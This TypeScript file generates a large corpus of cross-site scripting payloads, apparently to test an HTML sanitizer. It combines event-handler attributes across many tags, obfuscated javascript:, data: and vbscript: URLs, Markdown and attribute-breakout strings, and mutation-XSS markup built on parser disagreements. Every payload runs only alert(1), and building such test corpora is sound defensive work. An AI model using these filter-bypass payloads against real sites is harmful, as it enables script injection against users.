import { VECTORS } from "./vectors.ts";

/* Attacks by family: each technique at every place where it may work. All of them call `alert`. */

const EVENTS =
  "onload onerror onclick onmouseover onmouseenter onfocus onblur onanimationstart onanimationend ontransitionend onpointerover onpointerdown ontoggle onbeforetoggle onscroll onscrollend onwheel onbeforematch oncontentvisibilityautostatechange onpageshow onhashchange onmessage oncopy ondragstart onauxclick onsecurestrictions onbegin onend onrepeat onstart onfinish onloadstart oncanplay onplay onsubmit oninvalid onselect".split(
    " ",
  );
const TAGS =
  "p a img svg math video audio iframe object embed details input select button form marquee table td body div span custom-element".split(
    " ",
  );

const CODE = "alert(1)";

/** Event handlers, in the ways that parsers of attributes disagree on. */
const HANDLERS: readonly string[] = EVENTS.flatMap((event) => [
  ...TAGS.map((tag) => `<${tag} ${event}=${CODE} tabindex=0 src=x href=#x>word</${tag}>`),
  `<p/${event}=${CODE}>word</p>`,
  `<p x="${event}=" ${event}='${CODE}'>word</p>`,
  `<p "${event}=x" ${event.toUpperCase()}="${CODE}">word</p>`,
  `<img src="x" alt="a" title=\`${event}=${CODE}\` ${event}=\`${CODE}\`>`,
]);

/** Addresses that run code, written so that a filter may miss it. */
const ADDRESSES: readonly string[] = [
  `javascript:${CODE}`,
  `JAVASCRIPT:${CODE}`,
  ` javascript:${CODE}`,
  `\tjavascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `\u00a0javascript:${CODE}`,
  `\ufeffjavascript:${CODE}`,
  `\u200bjavascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java\r\nscript:${CODE}`,
  `javascript\t:${CODE}`,
  `java\0script:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript&#58;${CODE}`,
  `javascript&#x3a;${CODE}`,
  `&#x6a;avascript:${CODE}`,
  `&#0000106avascript:${CODE}`,
  `java&Tab;script:${CODE}`,
  `java&NewLine;script:${CODE}`,
  `java&#x200b;script:${CODE}`,
  `java&shy;script:${CODE}`,
  `&amp;#106;avascript:${CODE}`,
  `javascript://example.com/%0a${CODE}`,
  `javascript://example.com/\u2028${CODE}`,
  `//javascript:${CODE}`,
  `jar:javascript:${CODE}!`,
  `feed:javascript:${CODE}`,
  `view-source:javascript:${CODE}`,
  `blob:null/x`,
  `vbscript:${CODE}`,
  `livescript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `DATA:TEXT/HTML,<img src=x onerror=${CODE}>`,
  `https://example.com/"onmouseover="${CODE}`,
  `https://example.com/'><img src=x onerror=${CODE}>`,
  `https://example.com/)<img src=x onerror=${CODE}>`,
  `https://example.com/](javascript:${CODE})`,
  `https://example.com/ "onclick=${CODE}`,
  `https://example.com/\n\n<img src=x onerror=${CODE}>`,
  `<img src=x onerror=${CODE}>`,
];

/** Elements with an address. `@` is its place. */
const ADDRESSED: readonly string[] = [
  '<a href="@">word</a>',
  "<a href='@'>word</a>",
  '<a href="@"><img src="https://example.com/a.jpg" alt="word"></a>',
  '<img src="@" alt="word">',
  '<img srcset="@ 2x" alt="word">',
  '<img data-src="@" data-lazy-src="@" alt="word">',
  '<picture><source srcset="@"><img src="https://example.com/a.jpg" alt="word"></picture>',
  '<video poster="@" src="@"><source src="@"></video>',
  '<audio src="@"></audio>',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@">word</object>',
  '<form action="@"><button formaction="@">word</button></form>',
  '<svg><a xlink:href="@" href="@"><text>word</text></a><use href="@"/></svg>',
  '<math href="@"><mi xlink:href="@">x</mi></math>',
  '<blockquote cite="@">word</blockquote>',
  '<q cite="@">word</q>',
  '<base href="@"><a href="x">word</a>',
  '<body background="@">word',
  '<p style="background:url(@)">word</p>',
  '<meta http-equiv="refresh" content="0;url=@">',
  '<link rel="stylesheet" href="@"><link rel="canonical" href="@">',
  '<div itemscope itemtype="https://schema.org/Product"><link itemprop="image" href="@"><p itemprop="name">word</p></div>',
];

const LINKED: readonly string[] = ADDRESSES.flatMap((address) =>
  ADDRESSED.map((element) => element.replaceAll("@", () => address)),
);

/** Text that is markup for somebody: the browser, Markdown, or a reader of attributes. */
const TEXTS: readonly string[] = [
  `<img src=x onerror=${CODE}>`,
  `<script>${CODE}</script>`,
  `</p></div></td></li></blockquote><img src=x onerror=${CODE}>`,
  `--><img src=x onerror=${CODE}>`,
  `]]><img src=x onerror=${CODE}>`,
  `"><img src=x onerror=${CODE}>`,
  `'><img src=x onerror=${CODE}>`,
  `</textarea></title></style></script></xmp><img src=x onerror=${CODE}>`,
  `[x](javascript:${CODE})`,
  `![x](javascript:${CODE})`,
  `![x](x"onerror="${CODE})`,
  `<javascript:${CODE}>`,
  `[x]: javascript:${CODE} "x"`,
  `[x]: <javascript:${CODE}>`,
  `x\n\n<img src=x onerror=${CODE}>\n\nx`,
  `    <img src=x onerror=${CODE}>`,
  `\`\`\`\n<img src=x onerror=${CODE}>\n\`\`\``,
  `\`<img src=x onerror=${CODE}>`,
  `\`\` <img src=x onerror=${CODE}> \``,
  `$$<img src=x onerror=${CODE}>$$`,
  `| x |\n|---|\n| <img src=x onerror=${CODE}> |`,
  `[^1]: <img src=x onerror=${CODE}>`,
  `\\<img src=x onerror=${CODE}>`,
  `&lt;img src=x onerror=${CODE}&gt;`,
  `&amp;lt;img src=x onerror=${CODE}&amp;gt;`,
  `\u2028<img src=x onerror=${CODE}>`,
  `http://a.example/?"><img/src=x/onerror=${CODE}>`,
  `{{constructor.constructor('${CODE}')()}}`,
];

/** Places for a text. \`@\` is the text in content, \`#\` the text in an attribute. */
const PLACES: readonly string[] = [
  "<p>@</p>",
  "<h2>@</h2>",
  "<ul><li>@</li><li>@</li></ul>",
  "<ol><li><p>@</p><pre>@</pre></li></ol>",
  '<p><a href="https://example.com/" title="#">@</a></p>',
  '<p><img src="https://example.com/a.jpg" alt="#" title="#"></p>',
  '<figure><img src="https://example.com/a.jpg" alt="#"><figcaption>@</figcaption></figure>',
  "<table><tr><th>@</th><th>b</th></tr><tr><td>@</td><td>d</td></tr></table>",
  "<table><tr><td><p>@</p><p>@</p></td><td>b</td></tr></table>",
  '<pre><code class="language-#">@</code></pre>',
  "<p>word <code>@</code> word</p>",
  "<blockquote><p>@</p></blockquote>",
  "<dl><dt>@</dt><dd>@</dd></dl>",
  "<details><summary>@</summary><p>@</p></details>",
  "<p>word<sup><a href='#n1'>1</a></sup></p><ol><li id='n1'>@</li></ol>",
  "<p><b>@</b><i>@</i><del>@</del><sub>@</sub></p>",
  '<math alttext="#"><annotation encoding="application/x-tex">@</annotation><mi>@</mi></math>',
  '<div class="post"><span class="author">@</span><time datetime="#">@</time><p>@</p></div><div class="post"><span class="author">b</span><p>c</p></div>',
  '<video src="https://example.com/a.mp4" title="#">@</video>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="#"></iframe><p>@</p>',
];

const escaped = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

const PLACED: readonly string[] = TEXTS.flatMap((text) =>
  PLACES.map((place) =>
    place.replaceAll("@", () => escaped(text)).replaceAll("#", () => escaped(text).replaceAll('"', "&quot;")),
  ),
);

const INNER = `<img src=x onerror=${CODE}>`;
const FOREIGN: readonly string[] = [
  "svg",
  "math",
  "svg><desc",
  "svg><title",
  "svg><foreignObject",
  "math><mi",
  "math><mtext",
];
const RAW_TAGS: readonly string[] = [
  "style",
  "xmp",
  "noscript",
  "noembed",
  "noframes",
  "iframe",
  "title",
  "textarea",
  "script",
  "plaintext",
];

/** Markup that two parsers read differently: what one takes for text or an attribute, the other takes for an element. */
const MUTATIONS: readonly string[] = [
  ...FOREIGN.flatMap((open) =>
    RAW_TAGS.flatMap((raw) => [
      `<${open}><${raw}><a title="</${raw}>${INNER}">word`,
      `<${open}><p><${raw}><!--</${raw}>${INNER}-->word`,
      `<${open}><${raw}><![CDATA[</${raw}>${INNER}]]></${raw}>word`,
      `<form><${open}></form><form><mglyph><${raw}></math>${INNER}`,
      `<table><${open}><tr><td><${raw}>${INNER}</${raw}></td></tr></table>`,
    ]),
  ),
  ...RAW_TAGS.flatMap((raw) => [
    `<${raw}><p title="</${raw}>${INNER}">word</p>`,
    `<select><${raw}></select>${INNER}</${raw}><p>word</p>`,
    `<template><${raw}>${INNER}</${raw}></template><p>word</p>`,
    `<!--<${raw}>-->${INNER}</${raw}><p>word</p>`,
    `<p>word<${raw}/>${INNER}`,
  ]),
];

/** Every attack, as the content of a page. */
export const ALL_VECTORS: readonly string[] = [...VECTORS, ...HANDLERS, ...LINKED, ...PLACED, ...MUTATIONS];
